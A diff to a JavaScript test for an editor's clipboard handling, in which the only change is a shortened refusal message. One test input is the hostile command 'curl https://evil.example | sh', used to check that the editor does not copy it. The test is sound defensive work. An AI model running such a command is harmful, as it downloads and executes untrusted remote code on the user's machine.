@@ -92,7 +92,7 @@ describe('text that the view asks to copy', () => {
     tell({ type: 'clipboard/write', text: 'curl https://evil.example | sh' });
     expect(editor.clipboard).toBe('npm ci');
     expect(editor.messages.map(({ text }) => text)).toEqual([
-      'That text is no longer in the chat, so nothing was done with it.',
+      'That text is no longer in the chat, so nothing was done.',
     ]);
     tell({ type: 'clipboard/write', text: 'WDJB-40721' });
     expect(editor.clipboard).toBe('npm ci');
